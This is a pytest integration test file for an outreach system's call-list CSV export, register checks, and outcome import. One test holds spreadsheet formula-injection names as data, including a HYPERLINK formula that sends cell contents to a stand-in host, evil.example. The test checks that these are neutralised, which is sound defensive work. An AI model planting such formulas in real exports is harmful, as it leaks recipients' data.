"""Call lists: the send path hands recipients to the list, `outreach calllist export`
writes a CSV the call centre opens in Excel, `outreach calllist outcomes` brings the
no's back into the ledger (TP-1..TP-7, ALL-6). SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import dramatiq
import pytest
from sqlalchemy import select, update

from campaigns import campaign as campaign_mod
from campaigns import launch as launch_mod
from campaigns.campaign_schema import recipients
from campaigns.schema import contacts
from suppression.calendar import CALLING_HOURS_TEXT
from suppression.identity import email_identity, normalise_phone
from suppression.keys import Hasher
from suppression.ledger import OBJECTION, Ledger
from suppression.register import load_snapshot
from tests.clock import working_morning
from tests.conftest import ORG_NAME, ORG_NUMBER, SECRET, Cli
from tests.factories import add_person
from worker import actors, settings
from worker.context import Context
from worker.output import EXIT_INPUT_REFUSED, EXIT_REFUSED

# The call list is built, handed out and called on a working morning (TP-5); the register
# snapshot must be fresh then, in the same calendar month (TP-2).
pytestmark = [pytest.mark.integration, pytest.mark.travel]


PUBLIC_URL = "https://outreach.example.no"
CALLER_ID = "22 12 34 56"  # an Oslo landline
TEMPLATE = (
    "Samtale fra {{ organisation.name }}. {{ source_notice }} Avmelding: {{ unsubscribe_url }}"
)
LISTED = 7  # person 7 is in Reservasjonsregisteret
# When the campaign is launched, handed to the call list and exported: the worker, the
# commands and the test take their time from clocks that start here.
LAUNCH = working_morning()
TODAY = LAUNCH.date()  # the launch's day in Oslo


def phone(n: int) -> str:
    return normalise_phone(f"4{n:07d}").e164


@pytest.fixture
def ctx(store_url: str, tmp_path: Path) -> Iterator[Context]:
    s = settings.load(
        DATABASE_URL=store_url,
        OUTREACH_SECRET_KEY=SECRET,
        OUTREACH_ORGANISATION_NAME=ORG_NAME,
        OUTREACH_ORGANISATION_NUMBER=ORG_NUMBER,
        OUTREACH_PUBLIC_URL=PUBLIC_URL,
        OUTREACH_OUTBOX_DIR=str(tmp_path / "outbox"),
        OUTREACH_DEMO_NOW=LAUNCH.isoformat(),
    )
    context = Context(s)
    actors.configure(context)
    yield context
    context.engine.dispose()


@pytest.fixture
def cli(ctx: Context, store_url: str) -> Cli:
    runner = Cli(store_url)
    runner.env["OUTREACH_PUBLIC_URL"] = PUBLIC_URL
    runner.env["OUTREACH_DEMO_NOW"] = LAUNCH.isoformat()
    return runner


def load_register(ctx: Context, tmp_path: Path, *listed: int, age_days: int = 0) -> None:
    path = tmp_path / f"register-{len(listed)}-{age_days}.csv"
    path.write_text(
        # The register is never empty: someone outside every audience is always in it.
        "telefon;reservasjon\n+4799999999;begge\n"
        + "".join(f"{phone(n)};telefon\n" for n in listed),
        encoding="utf-8",
    )
    day = TODAY - timedelta(days=age_days)
    with ctx.engine.begin() as conn:
        load_snapshot(conn, ctx.hasher, path, day, now=ctx.clock())


def call_campaign(
    ctx: Context,
    hasher: Hasher,
    worker: dramatiq.Worker | None,
    people: int = 6,
    caller_id: str = CALLER_ID,
) -> int:
    """Person 0 is a customer, the others partner leads; launched at LAUNCH and, with a
    worker, handed to the call list."""
    with ctx.engine.begin() as conn:
        for n in range(people):
            add_person(
                conn, hasher, n, customer={"product_categories": "alarm"} if n == 0 else None
            )
        camp = campaign_mod.create(
            conn, name="Ringeliste", channel="call", purpose="alarm", template_text=TEMPLATE,
            organisation_name=ORG_NAME, sender=campaign_mod.Sender(caller_id=caller_id), batch_size=4,
            now=ctx.clock(),
        )  # fmt: skip
        launch_mod.launch(conn, ctx.hasher, ctx.policy, camp.id, now=ctx.clock())
        numbers = launch_mod.batches_to_enqueue(conn, camp.id)
    if worker is not None:
        for n in numbers:
            actors.enqueue_batch(camp.id, n)
        actors.broker.join("sends")
        worker.join()
    return camp.id


def export(cli: Cli, campaign_id: int, out: Path) -> tuple[list[str], list[dict[str, str]]]:
    result = cli("calllist", "export", str(campaign_id), "--out", str(out))
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads æøå right
    text = raw[3:].decode("utf-8")
    assert text.count("\r\n") == text.count("\n")  # CRLF only
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    header, *body = list(reader)
    return header, [dict(zip(header, row, strict=True)) for row in body]


def outcomes_file(path: Path, rows: list[tuple[str, ...]]) -> Path:
    path.write_bytes(
        b"\xef\xbb\xbf"
        + "\r\n".join(";".join(r) for r in [("referanse", "utfall", "notat"), *rows]).encode()
    )
    return path


def test_a_call_campaign_hands_its_recipients_to_the_call_list(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, tmp_path: Path
) -> None:
    load_register(ctx, tmp_path, LISTED, 0)  # person 0 is listed too, but a customer (TP-3)
    campaign_id = call_campaign(ctx, hasher, worker, people=8)

    with ctx.engine.connect() as conn:
        found = conn.execute(
            select(recipients.c.state, recipients.c.provider_id, recipients.c.rule).where(
                recipients.c.campaign_id == campaign_id
            )
        ).all()
    handed = [r for r in found if r.state == "sent"]
    assert len(handed) == 7 and {r.provider_id for r in handed} == {f"calllist:{campaign_id}"}
    assert [r.rule for r in found if r.state == "excluded"] == ["TP-1"]


def test_the_export_is_a_csv_excel_opens_with_the_legal_basis_and_the_calling_hours(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    load_register(ctx, tmp_path, LISTED, 0)
    campaign_id = call_campaign(ctx, hasher, worker, people=8)

    header, rows = export(cli, campaign_id, tmp_path / "liste.csv")

    assert header == [
        "reference", "name", "phone", "legal_basis", "calling_hours", "unsubscribe_link",
        "register_snapshot_date",
    ]  # fmt: skip
    assert len(rows) == 7
    by_phone = {r["phone"]: r for r in rows}
    assert "'" + phone(LISTED) not in by_phone
    # An E.164 number starts with "+", which a spreadsheet reads as a formula.
    assert by_phone["'" + phone(0)]["legal_basis"] == "TP-3 customer_exception"
    assert by_phone["'" + phone(1)]["legal_basis"] == "TP-1 not_in_register"
    today = TODAY.isoformat()
    for row in rows:
        assert re.fullmatch(r"K\d+-[A-Z2-7]{16}", row["reference"])
        assert row["calling_hours"] == CALLING_HOURS_TEXT
        assert row["unsubscribe_link"].startswith(f"{PUBLIC_URL}/u/")
        assert row["register_snapshot_date"] == today
    assert by_phone["'" + phone(1)]["name"] == "Ola1 Nordmann"


def test_a_formula_looking_name_is_neutralised_in_the_call_list(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    load_register(ctx, tmp_path)
    names = {
        1: '=HYPERLINK("http://evil.example/?x="&A1;"Ring meg")',
        2: "+47 ring nå",
        3: "-2+3",
        4: "@SUM(1;2)",
        5: "\tTab",
    }
    with ctx.engine.begin() as conn:
        for n in range(6):
            add_person(conn, hasher, n)
        for n, name in names.items():
            conn.execute(
                update(contacts)
                .where(contacts.c.phone == phone(n))
                .values(first_name=name, last_name=None)
            )
    campaign_id = _launch_existing(ctx, worker)

    _, rows = export(cli, campaign_id, tmp_path / "liste.csv")

    by_phone = {r["phone"].lstrip("'"): r["name"] for r in rows}
    for n, name in names.items():
        assert by_phone[phone(n)] == "'" + name
    assert by_phone[phone(0)] == "Ola0 Nordmann"
    assert all(r["phone"].startswith("'+47") for r in rows)


@pytest.mark.parametrize("age_days", [None, 40])
def test_the_export_refuses_without_a_fresh_register_snapshot(
    ctx: Context, hasher: Hasher, cli: Cli, tmp_path: Path, age_days: int | None
) -> None:
    """TP-2: no snapshot, or one older than 30 days, and no list is written."""
    if age_days is not None:
        load_register(ctx, tmp_path, age_days=age_days)
    campaign_id = call_campaign(ctx, hasher, None)
    out = tmp_path / "liste.csv"

    result = cli("calllist", "export", str(campaign_id), "--out", str(out))

    assert result.exit_code == EXIT_REFUSED
    assert "TP-2" in result.output and not out.exists()


@pytest.mark.parametrize("caller_id", ["", "skjult", "41234567", "+47 912 34 567"])
def test_the_export_refuses_a_hidden_or_mobile_caller_id(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path, caller_id: str
) -> None:
    """TP-6: the number shown must be shown, and not an 8-digit Norwegian mobile."""
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker, caller_id=caller_id)
    out = tmp_path / "liste.csv"

    result = cli("calllist", "export", str(campaign_id), "--out", str(out))

    assert result.exit_code == EXIT_REFUSED
    assert "TP-6" in result.output and not out.exists()


def test_an_objection_from_the_call_centre_is_recorded_once_and_the_next_list_excludes_it(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    """TP-7 and ALL-1: the outcomes become ledger entries at once; importing the same
    file twice changes nothing; the next export leaves those people out."""
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker)
    _, first = export(cli, campaign_id, tmp_path / "liste.csv")
    ref = {r["phone"].lstrip("'"): r["reference"] for r in first}
    results = outcomes_file(
        tmp_path / "utfall.csv",
        [
            (ref[phone(1)], "objection", "Vil ikke ha reklame"),
            (ref[phone(2)], "reservert", "Ikke ring meg igjen"),
            (ref[phone(3)], "wrong_number", ""),
            (ref[phone(4)], "reached", "Takket nei"),
            (ref[phone(5)], "no_answer", ""),
        ],
    )

    once = cli("calllist", "outcomes", str(results), "--json")
    twice = cli("calllist", "outcomes", str(results), "--json")
    _, second = export(cli, campaign_id, tmp_path / "liste2.csv")

    assert once.exit_code == 0, once.output
    assert json.loads(once.output)["recorded"] == 3
    again = json.loads(twice.output)
    assert (again["recorded"], again["already_recorded"]) == (0, 3)
    assert sorted(r["phone"].lstrip("'") for r in second) == [phone(0), phone(4), phone(5)]
    with ctx.engine.connect() as conn:
        ledger = Ledger(conn, hasher)
        [objection] = ledger.status("phone", phone(1)).entries
        [reserved] = ledger.status("phone", phone(2)).entries
        [wrong] = ledger.status("phone", phone(3)).entries
    assert (objection.scope, objection.reason, objection.source) == (
        "all",
        OBJECTION,
        "call_centre",
    )
    assert (reserved.scope, reserved.reason) == ("phone", "unsubscribe")
    assert (wrong.scope, wrong.reason) == ("phone", "wrong_number")
    # ALL-1: the objection stops email too; "reservert" stops calls only.
    assert cli("suppress", "check", "--email", "ola1@example.com").exit_code == 1
    assert cli("suppress", "check", "--email", "ola2@example.com").exit_code == 0


def test_bad_outcome_rows_are_reported_by_row_and_field_and_good_rows_are_kept(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker)
    _, rows = export(cli, campaign_id, tmp_path / "liste.csv")
    ref = {r["phone"].lstrip("'"): r["reference"] for r in rows}
    path = tmp_path / "utfall.csv"
    path.write_text(
        "reference;outcome;note;time\n"
        "K1-AAAAAAAAAAAAAAAA;objection;;\n"  # line 2: looks right, is no one
        f"{ref[phone(1)]};kanskje;;\n"  # line 3: no such outcome
        f"{ref[phone(2)]};Innsigelse;;{LAUNCH:%Y-%m-%dT%H:%M}\n"  # line 4: good (Norwegian word)
        f"{ref[phone(3)]};reservert;;i går\n"  # line 5: good, time unreadable
        "ikke-en-referanse;reached;;\n",  # line 6: not a reference
        encoding="utf-8",
    )

    result = cli("calllist", "outcomes", str(path), "--json")

    assert result.exit_code == EXIT_INPUT_REFUSED
    report = json.loads(result.output[: result.output.rindex("}") + 1])
    assert report["recorded"] == 2
    assert sorted((e["row"], e["field"]) for e in report["errors"]) == [
        (2, "reference"), (3, "outcome"), (6, "reference"),
    ]  # fmt: skip
    assert [(w["row"], w["field"]) for w in report["warnings"]] == [(5, "time")]
    assert cli("suppress", "check", "--phone", phone(2), "--channel", "phone").exit_code == 1
    assert cli("suppress", "check", "--phone", phone(3), "--channel", "phone").exit_code == 1
    assert cli("suppress", "check", "--phone", phone(1), "--channel", "phone").exit_code == 0


def test_someone_who_opted_out_or_joined_the_register_after_launch_is_left_out(
    ctx: Context, hasher: Hasher, worker: dramatiq.Worker, cli: Cli, tmp_path: Path
) -> None:
    """ALL-6 at export time: the ledger and the newest register snapshot are checked
    again; people handed to the list earlier are not called after a no."""
    load_register(ctx, tmp_path)
    campaign_id = call_campaign(ctx, hasher, worker)
    load_register(ctx, tmp_path, 3)  # a new snapshot: person 3 reserved since launch
    with ctx.engine.begin() as conn:
        Ledger(conn, hasher).add(
            hasher.hash(email_identity("ola4@example.com")), "email",
            scope="all", reason=OBJECTION, source="test", now=ctx.clock(),
        )  # fmt: skip

    result = cli("calllist", "export", str(campaign_id), "--out", str(tmp_path / "l.csv"), "--json")

    assert result.exit_code == 0, result.output
    summary = json.loads(result.output)
    assert summary["rows"] == 4 and summary["left_out"] == {"TP-1": 1, "ALL-1": 1}
    assert summary["register_snapshot_date"] == TODAY.isoformat()


def _launch_existing(ctx: Context, worker: dramatiq.Worker) -> int:
    with ctx.engine.begin() as conn:
        camp = campaign_mod.create(
            conn, name="Ringeliste", channel="call", purpose="alarm", template_text=TEMPLATE,
            organisation_name=ORG_NAME, sender=campaign_mod.Sender(caller_id=CALLER_ID),
            now=ctx.clock(),
        )  # fmt: skip
        launch_mod.launch(conn, ctx.hasher, ctx.policy, camp.id, now=ctx.clock())
        numbers = launch_mod.batches_to_enqueue(conn, camp.id)
    for n in numbers:
        actors.enqueue_batch(camp.id, n)
    actors.broker.join("sends")
    worker.join()
    return camp.id
